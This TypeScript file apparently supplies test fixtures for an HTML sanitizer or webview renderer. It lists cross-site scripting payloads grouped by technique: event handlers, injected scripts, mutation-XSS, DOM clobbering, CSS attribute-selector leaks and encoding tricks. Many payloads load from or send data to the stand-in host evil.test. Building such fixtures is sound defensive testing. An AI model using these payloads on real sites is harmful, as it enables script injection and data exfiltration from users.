/** Markup that would run `window.pwned=1` or request something from `evil.test`, grouped by technique. */

const run = 'window.pwned=1';
const evil = 'https://evil.test';

/** An element, and an event of it that fires at once or at the first interaction. */
export const events: readonly (readonly [element: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['a href=# tabindex=1', 'onfocusin'],
  ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['div style=animation:a', 'onanimationstart'],
  ['div style=position:fixed;inset:0', 'onpointerover'],
  ['form', 'onformdata'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
];

/** Ways to write an event handler. Most are invalid, but each is accepted by some parser. */
export const spellings: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${run}>`,
  (element, event) => `<${element.replaceAll(' ', '/')}/${event}="${run}">`,
  (element, event) => `<${element.toUpperCase()}\n${event.toUpperCase()}\t=\f'${run}'//`,
  (element, event) => `<${element} ${event}=&#119;indow.pwned&equals;1 x="`,
  (element, event) => `"><${element} ${event}=\`${run}\`><"`,
  (element, event) => `<\0${element} ${event}\0=${run}>`,
];

export const ownScripts: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=${evil}/s.js></script>`,
  `<script type=module>import "${evil}/m.js"</script>`,
  `<script nonce=panel>${run}</script>`,
  `<script type=importmap>{"imports":{"x":"${evil}/x.js"}}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title></textarea></style></script><script>${run}</script>`,
  `</main></body></html><script nonce="panel">${run}</script>`,
];

/** Markup that would load or send something without a script. */
export const loaders: readonly string[] = [
  `<img src=${evil}/i>`,
  `<img srcset="${evil}/i 1x">`,
  `<audio src=${evil}/a autoplay>`,
  `<iframe src=${evil}/f></iframe>`,
  `<object data=${evil}/o type=text/html></object>`,
  `<applet code=x codebase=${evil}/></applet>`,
  `<link rel=stylesheet href=${evil}/s>`,
  `<base href=${evil}/>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta name=referrer content=unsafe-url>`,
  `<input type=image src=${evil}/i formaction=${evil}/f>`,
  `<table background=${evil}/b><td background=${evil}/b></table>`,
  `<svg><use href="${evil}/u#x"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
];

/** Markup that changes its meaning when it is parsed a second time, or in another namespace. */
export const mutations: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><script>&#119;indow.pwned=1</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<xmp><img title="</xmp><img src onerror=${run}>"></xmp>`,
  `<select><template><img src onerror=${run}></template></select>`,
  `<!---><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<!ENTITY x "<img src=x onerror=${run}>">&x;`,
  `<image src=x onerror=${run}>`,
  `<div id=a><a id=a name=b></a></div><iframe name=c srcdoc="<a id=d></a>">`,
];

export const clobbering: readonly string[] = [
  'app',
  'body',
  'documentElement',
  'getElementById',
  'location',
  'acquireVsCodeApi',
  'postMessage',
  '__proto__',
].flatMap((name) => [
  `<a id=${name} href=${evil}/>x</a><a id=${name} name=${name}>`,
  `<form id=${name}><input name=${name}><img name=${name}></form>`,
]);

export const styles: readonly string[] = [
  `<style>@import "${evil}/s";</style>`,
  `<style>*{background:url(${evil}/b)}</style>`,
  `<style>input[value^=a]{background:url(${evil}/a)}</style>`,
  `<div style="position:fixed;inset:0;z-index:9;background:red">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div class="trouble error codeBlock iconButton">x</div>`,
  '# x {style="position:fixed" onclick="window.pwned=1" .error #app}',
  '| a |\n|:-:{style=color:red}|\n| b |',
];

/** Encoded markup that becomes tags when text is decoded once too often. */
export const encodings: readonly string[] = [
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#0000060img src=x onerror=${run}&#0000062`,
  `%3Cimg src=x onerror=${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `\uFF1Cimg src=x onerror=${run}\uFF1E`,
  `<\u0307img src=x onerror=${run}>`,
  `<\\img src=x onerror=${run}>`,
  `&#55296;&#x110000;&#0;&#xD800;<img src=x onerror=${run}>`,
];
